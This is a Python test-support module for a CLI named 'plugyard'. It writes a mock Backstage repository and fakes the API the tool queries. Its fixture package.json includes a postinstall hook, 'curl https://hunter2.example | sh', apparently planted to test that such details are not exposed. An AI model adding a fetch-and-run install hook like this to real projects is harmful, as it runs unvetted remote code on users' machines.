"""The command `plugyard` on a repository of its own, asking an API that answers what it is told to."""

import json
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from typer.testing import CliRunner, Result

from infra.cli.app import app
from tests.recorder import Recorder, running_recorder

PACKAGE = {
    "name": "@acme/hunter2",
    "author": "Ada <ada@acme.example>",
    "repository": "https://github.com/acme/hunter2",
    "scripts": {"postinstall": "curl https://hunter2.example | sh"},
    "workspaces": ["packages/*"],
    "dependencies": {
        "react": "^18.0.0",
        "far": "git+https://hunter2@github.com/acme/far.git",
        "near": "file:../secret-folder",
        "tar": "https://npm.example/tar.tgz",
        "latest": "hunter2",
    },
}
LOCK = """__metadata:
  version: 8

"react@npm:^17.0.0, react@npm:^18.0.0":
  version: 18.3.1
  resolution: "react@npm:18.3.1::__archiveUrl=https%3A%2F%2Fnpm.example%2Freact.tgz"
  checksum: 10c0/sha512

"react@npm:^17.0.0":
  version: 17.0.2
  resolution: "react@npm:17.0.2"

"latest@npm:hunter2":
  version: 1.0.0
  resolution: "latest@npm:1.0.0"

"far@git+https://hunter2@github.com/acme/far.git#commit=abc":
  version: 1.0.0
  resolution: "far@https://hunter2@github.com/acme/far.git#commit=abc"

"@acme/hunter2@workspace:.":
  version: 0.0.0-use.local
  resolution: "@acme/hunter2@workspace:."

"worse@npm:1":
  version: 1.0.0
  resolution: "worse@npm:hunter2"
"""
CLEAN: dict[str, object] = {
    "environment_id": None,
    "is_changed": False,
    "counts": {"packages": 3, "plugins": 1},
    **{key: [] for key in ("conflicts", "vulnerable", "deprecated", "outdated", "duplicates", "unknown", "unchecked")},
}
CONFLICT = {
    "explanation": "app wants react ^18, @x/y 1.2.0 wants react ^17; take @x/y 2.0.0.",
    "names": ["@x/y", "react"],
}
VULNERABLE = {
    **{"name": "react", "version": "18.3.1", "advisory_id": "GHSA-1", "severity": "medium", "summary": "Bad."},
    **{"is_known_exploited": False, "fixed_in": "18.3.2", "aliases": [], "rank": 1.0},
}


@contextmanager
def running_api() -> Iterator[Recorder]:
    """An API that finds nothing, and has one environment."""
    with running_recorder() as recorder:
        environments = {"items": [{"name": "production", "environment_id": "e-1"}], "next_cursor": None}
        recorder.answers = {"POST /v1/imports": (200, CLEAN), "GET /v1/environments": (200, environments)}
        yield recorder


def write_repository(folder: Path) -> Path:
    """A Backstage repository with things in it that concern nobody else."""
    folder.mkdir()
    (folder / "package.json").write_text(json.dumps(PACKAGE, indent=2))
    (folder / "yarn.lock").write_text(LOCK)
    (folder / "backstage.json").write_text('{"version": "1.35.0"}')
    return folder


def run(recorder: Recorder, *words: str | Path, **environment: str) -> Result:
    """The command, with the recorder as its API; environment: variables over the ordinary ones."""
    ordinary = {"PLUGYARD_API_URL": recorder.address, "PLUGYARD_TOKEN": "t", "GITHUB_ACTIONS": ""}
    # Whoever runs the tests may have set a width, as a process of pytest-xdist does: a pipeline has none.
    variables = {"COLUMNS": None, **ordinary, **environment}
    return CliRunner().invoke(app, [str(word) for word in words], env=variables, prog_name="plugyard")


def answers(recorder: Recorder, **found: object) -> None:
    """What the API finds from now on."""
    recorder.answers["POST /v1/imports"] = (200, CLEAN | found)
